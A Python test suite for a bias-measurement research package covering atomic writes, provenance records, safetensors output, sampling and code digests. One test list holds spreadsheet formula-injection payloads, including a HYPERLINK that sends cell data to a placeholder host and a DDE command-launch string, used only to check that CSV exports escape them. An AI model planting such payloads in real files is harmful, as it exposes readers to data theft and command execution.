"""Files of the project: provenance, tables, tensors, samples, and the digest of code that makes a rule run again."""

import csv
import errno
import hashlib
import os
import re
import signal
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st
from safetensors import safe_open
from safetensors.numpy import save_file

from biasflow.base.code import code_digest, code_files
from biasflow.base.errors import BiasflowError
from biasflow.base.files import check_writable, whole_file, whole_folder
from biasflow.base.provenance import write_provenance
from biasflow.base.records import checked, contents, read_record, record_file, start_of
from biasflow.base.sample import limit_of, marked, sampled
from biasflow.base.tabular import as_written, read_text_csv, without_formulas, write_csv
from biasflow.base.tensors import save_tensors
from biasflow.results.scores import KEYS, read_scores, tidy, write_scores
from biasflow.results.tables import write_table

ROOT = Path(__file__).parents[3]


def test_a_file_is_whole_or_absent(tmp_path):
    path = tmp_path / "below" / "x.txt"
    with pytest.raises(RuntimeError), whole_file(path) as temporary:
        temporary.write_text("half")
        raise RuntimeError
    assert list(path.parent.iterdir()) == []
    with whole_file(path) as temporary:
        temporary.write_text("whole")
        assert not path.exists()
    assert path.read_text() == "whole"


def test_what_was_there_stays_when_writing_fails(tmp_path):
    path = tmp_path / "x.txt"
    path.write_text("old")
    with pytest.raises(BiasflowError, match=r"x\.txt.*space"), whole_file(path) as temporary:
        temporary.write_text("new")
        raise OSError(errno.ENOSPC, "No space left on device")
    assert path.read_text() == "old"
    assert os.listdir(tmp_path) == ["x.txt"]


def test_a_folder_that_cannot_be_written(tmp_path, monkeypatch):
    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr("tempfile.mkstemp", refuse)
    with pytest.raises(BiasflowError, match=str(tmp_path)), whole_file(tmp_path / "x.txt"):
        pass


def test_a_full_disk_as_safetensors_reports_it(tmp_path):
    with pytest.raises(BiasflowError, match=r"model.*space"), whole_folder(tmp_path / "model"):
        raise RuntimeError("I/O error: No space left on device (os error 28)")
    assert os.listdir(tmp_path) == []


def test_a_results_folder_that_cannot_be_written(tmp_path, monkeypatch):
    check_writable(tmp_path / "not" / "there" / "yet")
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    with pytest.raises(BiasflowError, match=str(tmp_path)):
        check_writable(tmp_path / "results")


def test_a_folder_takes_the_place_of_the_old_one_only_when_whole(tmp_path):
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "old").touch()
    with pytest.raises(RuntimeError), whole_folder(folder) as temporary:
        (temporary / "new").touch()
        raise RuntimeError
    assert os.listdir(folder) == ["old"]
    with whole_folder(folder) as temporary:
        (temporary / "new").touch()
    assert os.listdir(folder) == ["new"]
    assert os.listdir(tmp_path) == ["model"]


@pytest.mark.parametrize(("mask", "file", "dir"), [(0o022, 0o644, 0o755), (0o002, 0o664, 0o775), (0o077, 0o600, 0o700)])
def test_everything_that_is_published_follows_the_umask_and_keeps_the_group(tmp_path, mask, file, dir):
    """As safetensors and the tokenizer of an encoder write it; of a group's folder (setgid) the group is handed on."""
    (tmp_path / "group").mkdir()
    (tmp_path / "group").chmod(0o2777)
    before = os.umask(mask)
    try:
        with whole_folder(tmp_path / "group/encoder") as temporary:
            (temporary / "1_Pooling").mkdir()
            save_file({"x": np.zeros(2, np.float32)}, temporary / "model.safetensors")
            for name in ("config.json", "1_Pooling/config.json"):
                (temporary / name).write_text("{}")
                (temporary / name).chmod(0o600)
            (temporary / "link").symlink_to(tmp_path / "elsewhere")
        with whole_file(tmp_path / "group/table.csv") as temporary:
            temporary.write_text("x")
        save_tensors({"x": np.zeros(2, np.float32)}, tmp_path / "group/methods.safetensors")
    finally:
        os.umask(before)
    made = [path for path in (tmp_path / "group").rglob("*") if not path.is_symlink()]
    assert len(made) == 7
    for path in made:
        assert path.stat().st_mode & 0o7777 == (dir | 0o2000 if path.is_dir() else file), path


KILLED = """
import os, signal
from biasflow.base.files import {function}
with {function}({path!r}) as temporary:
    {write}
    {end}
"""


def begin(function, path, *, end):
    """A process that writes a part of `path`; `end`: what it does then."""
    write = '(temporary / "half").write_text("x")' if function == "whole_folder" else 'temporary.write_text("half")'
    code = KILLED.format(function=function, path=str(path), write=write, end=end)
    return subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE)


@pytest.mark.parametrize("function", [whole_file, whole_folder])
def test_what_killed_processes_left_is_removed(tmp_path, function):
    path = tmp_path / "x[1]"
    killed = begin(function.__name__, path, end="os.kill(os.getpid(), signal.SIGKILL)")
    assert killed.wait(60) == -signal.SIGKILL
    assert [name for name in os.listdir(tmp_path) if name.endswith(".part")] != []
    with function(path) as temporary:
        (temporary / "whole" if function is whole_folder else temporary).write_text("whole")
    assert os.listdir(tmp_path) == ["x[1]"]


def test_what_another_process_is_writing_stays(tmp_path):
    with begin("whole_file", tmp_path / "x", end='print("begun", flush=True); input()') as other:
        assert other.stdout.readline() == b"begun\n"
        with whole_file(tmp_path / "x") as temporary:
            temporary.write_text("ours")
        other.communicate(b"\n", timeout=60)
    assert other.returncode == 0 and (tmp_path / "x").read_text() == "half"
    assert os.listdir(tmp_path) == ["x"]


def test_the_record_of_a_result(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "in.csv").write_text("a")
    output = Path("results/demo/out.csv")
    output.parent.mkdir(parents=True)
    output.write_text("b")
    write_provenance(
        [str(output)],
        rule="strength",
        inputs=checked([str(tmp_path / "in.csv")]),
        params={"top": 0.1},
        config={"run": "demo"},
        started=time.time() - 2,
        facts={"device": "cpu", "seed": 3},
    )
    record = read_record(output)
    assert record["inputs"] == {str(tmp_path / "in.csv"): hashlib.sha256(b"a").hexdigest()}
    assert record["sha256"] == {str(output): hashlib.sha256(b"b").hexdigest()}
    assert record["wall_seconds"] >= 2
    assert 2 <= time.time() - datetime.fromisoformat(record["started"]).timestamp() < 60
    assert (record["device"], record["seed"], record["params"]) == ("cpu", 3, {"top": 0.1})
    assert start_of(record)["config"] == {"run": "demo"}
    assert {"python", "torch", "transformers"} <= set(start_of(record)["versions"])


def test_what_the_system_lays_into_a_folder_is_no_content_of_it(tmp_path):
    for name in ("a.csv", "part/b.csv", ".snakemake_timestamp", ".cache/c.csv", "part/.d"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).touch()
    assert contents(tmp_path) == [tmp_path / "a.csv", tmp_path / "part/b.csv"]
    assert contents(tmp_path / ".cache/c.csv") == [tmp_path / ".cache/c.csv"]


def test_the_record_of_a_result_in_a_storage_lies_beside_all_others_and_of_other_folders_there_is_none():
    here = Path("results/demo/provenance/tables/a.csv.json")
    assert record_file("results/demo/tables/a.csv") == here
    assert record_file(".snakemake/storage/fs/another/disk/results/demo/tables/a.csv") == here
    for path in ("/another/results/demo/tables/a.csv", ".snakemake/storage/fs/another/a.csv", "results/a.csv"):
        assert record_file(path) is None


PACKAGE = Path(__file__).parents[3] / "scripts/biasflow"
METADATA = {f"key {number}": f'Größe "{number}"\n\x01' for number in range(12)}


@pytest.mark.parametrize("tensors", [{"b": torch.eye(3), "a": torch.ones(2).half()}, {"b": np.eye(3), "a": np.ones(2)}])
def test_metadata_are_in_the_order_of_their_names_and_the_rest_is_read_back(tmp_path, tensors):
    written = set()
    for number, metadata in enumerate([METADATA, dict(reversed(METADATA.items()))] * 3):
        path = tmp_path / f"{number}.safetensors"
        save_tensors(tensors, path, metadata)
        written.add(path.read_bytes())
        with safe_open(path, "np") as file:
            assert file.metadata() == METADATA
            assert all(np.array_equal(file.get_tensor(name), np.asarray(tensor)) for name, tensor in tensors.items())
    assert len(written) == 1


def test_nothing_else_writes_safetensors():
    """A call of the library's own would bring back an order that differs from process to process."""
    library = re.compile(r"from safetensors\S* import .*\b(save|save_file|save_model)\b|serialize_file\(")
    writing = [path.name for path in PACKAGE.rglob("*.py") if library.search(path.read_text())]
    assert writing == ["tensors.py"]


LINK = '=HYPERLINK("http://example.invalid/?"&A1,"nurse")'
FORMULAS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "'=1", "''@x"]
MAY_BEGIN_A_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def first_cells(path):
    with open(path, newline="", encoding="utf-8") as stream:
        return [row[0] for row in csv.reader(stream)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_of_somebodys_file_stands_as_text_in_every_csv(tmp_path, text):
    frame = pd.DataFrame({text: [text], "n": [-1.5]})
    write_csv(frame, tmp_path / "data.csv")
    write_table(frame, *(tmp_path / f"table.{kind}" for kind in ("csv", "tex", "html")), caption="A table.")
    for name in ("data.csv", "table.csv"):
        for cell in first_cells(tmp_path / name):
            assert cell == f"'{text}"
    assert "-1.5" in (tmp_path / "data.csv").read_text().splitlines()[-1]
    table = read_text_csv(tmp_path / "data.csv")
    assert table[text].tolist() == [text]
    scores = tidy(pd.DataFrame({"metric": ["tpr"], "part": [text], "value": [-0.5]}), **{KEYS[0]: "mine"})
    write_scores(scores, tmp_path / "scores.csv")
    assert read_scores(tmp_path / "scores.csv")["part"].tolist() == [text]
    with open(tmp_path / "scores.csv", newline="", encoding="utf-8") as stream:
        (row,) = csv.DictReader(stream)
    assert row["part"] == f"'{text}" and row["value"] == "-0.5"


@pytest.mark.parametrize(("text", "safe"), [("-0.548* [-0.53 ± 0.1]", True), ("-1 [=A1]", False), ("-2+3 [1]", False)])
def test_a_number_beside_a_printed_one_is_no_formula(text, safe):
    assert without_formulas(pd.DataFrame({"x": [text]}))["x"].tolist() == [text if safe else f"'{text}"]


def test_a_carriage_return_ends_no_row(tmp_path):
    write_csv(pd.DataFrame({"x": ["\r=1", "a\rb", "a\r\nb"]}), tmp_path / "a.csv")
    assert read_text_csv(tmp_path / "a.csv")["x"].tolist() == [" =1", "a b", "a\nb"]


@given(st.lists(st.text("=+-@\t'1a.e ", max_size=6), min_size=1))
def test_what_is_read_is_what_was_written(texts):
    frame = pd.DataFrame({"x": texts, "n": range(len(texts)), "absent": None})
    safe = without_formulas(frame)
    pd.testing.assert_frame_equal(as_written(safe), frame)
    for cell in safe["x"]:
        if len(cell) > 1 and cell.startswith(MAY_BEGIN_A_FORMULA):
            float(cell)  # nothing but numbers begins so


@st.composite
def tables(draw) -> pd.DataFrame:
    """Items of one to three rows, in groups of very different sizes."""
    groups = draw(st.lists(st.sampled_from("aaaaaaab"), min_size=1, max_size=60))
    rows = draw(st.lists(st.integers(1, 3), min_size=len(groups), max_size=len(groups)))
    item = np.repeat(np.arange(len(groups)), rows)
    return pd.DataFrame({"item": item, "group": np.repeat(groups, rows), "row": range(len(item))})


@given(tables(), st.integers(1, 40), st.integers(0, 40), st.booleans())
def test_a_smaller_sample_is_part_of_a_larger_one_in_the_tables_order(table, limit, more, alike):
    small, large = (
        sampled(table, n, unit=["item"], strata=["group"], alike=alike)["row"].tolist() for n in (limit, limit + more)
    )
    assert small == sorted(small) and set(small) <= set(large)
    assert small == sampled(table, limit, unit=["item"], strata=["group"], alike=alike)["row"].tolist()


def test_a_sample_has_the_same_items_in_every_version():
    """Numbers of limited runs are printed; the permutation of default_rng(0) begins with 4, 6, 2."""
    assert sampled(pd.DataFrame({"row": range(10)}), 3)["row"].tolist() == [2, 4, 6]


@given(tables(), st.integers(1, 60))
def test_items_are_whole_and_as_many_as_the_limit(table, limit):
    found = sampled(table, limit, unit=["item"])
    assert found["item"].nunique() == min(limit, table["item"].nunique())
    assert len(found) == table["item"].isin(found["item"]).sum()


@pytest.mark.parametrize("limit", [3, 10, 50, 100, 700])
def test_groups_keep_their_shares(limit):
    table = pd.DataFrame({"group": np.repeat(["a", "b", "c"], [700, 200, 100])})
    found = sampled(table, limit, strata=["group"])["group"].value_counts()
    assert (found.reindex(["a", "b", "c"]) - limit * np.array([0.7, 0.2, 0.1])).abs().max() <= 1


def test_groups_are_alike_as_long_as_they_have_items():
    table = pd.DataFrame({"group": np.repeat(["a", "b", "c"], [700, 200, 4])})
    found = sampled(table, 100, strata=["group"], alike=True)["group"].value_counts()
    assert found["c"] == 4 and {found["a"], found["b"]} == {48}


def test_a_limited_dataset_has_its_limit_in_its_name():
    assert marked("gest", ()) == "gest" and limit_of("gest") == ""
    assert marked("gest", (500, 500)) == "gest-limit500" and limit_of("gest-limit500") == "500"
    assert marked("C6", (2000, 500)) == "C6-limit2000-500" and limit_of("C6-limit2000-500") == "2000-500"


@pytest.fixture
def project(tmp_path):
    """A script, the modules that it imports, one of them inside of a function, and what stands beside these."""
    for name, text in {
        "scripts/run.py": "import os\nfrom biasflow.metrics.a import (  # both\n    f,\n)\n",
        "scripts/biasflow/__init__.py": "",
        "scripts/biasflow/metrics/a.py": "def f():\n    from biasflow import b\n",
        "scripts/biasflow/b.py": "import numpy, biasflow.metrics.a\nWORDS = shipped('data/words')\n",
        "scripts/biasflow/data/words/she.csv": "she\n",
        "scripts/biasflow/data/other.csv": "",
        "scripts/biasflow/metrics/other.py": "",
    }.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    return tmp_path


REACHED = ["__init__.py", "b.py", "data/words/she.csv", "metrics/a.py"]


def test_the_modules_and_the_data_that_a_script_reaches(project):
    found = code_files(project / "scripts/run.py", project)
    assert [str(path.relative_to(project)) for path in found] == [
        *(f"scripts/biasflow/{name}" for name in REACHED), "scripts/run.py"
    ]  # fmt: skip


def digest(project):
    for remembered in ("_line", "_reached"):
        code_digest.__globals__[remembered].cache_clear()
    return code_digest([project / "scripts/run.py"], project)


@pytest.mark.parametrize("file", ["run.py", *(f"biasflow/{name}" for name in REACHED)])
def test_it_follows_every_file_that_is_reached(project, file):
    before = digest(project)
    path = project / "scripts" / file
    path.write_text(path.read_text() + "\n")
    assert digest(project) != before


def test_it_follows_the_names_of_data(project):
    before, words = digest(project), project / "scripts/biasflow/data/words"
    (words / "she.csv").rename(words / "woman.csv")
    assert digest(project) != before


def test_it_does_not_depend_on_where_the_project_lies(project, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("elsewhere") / "clone"
    project.rename(elsewhere)
    moved = digest(elsewhere)
    elsewhere.rename(project)
    assert moved == digest(project)
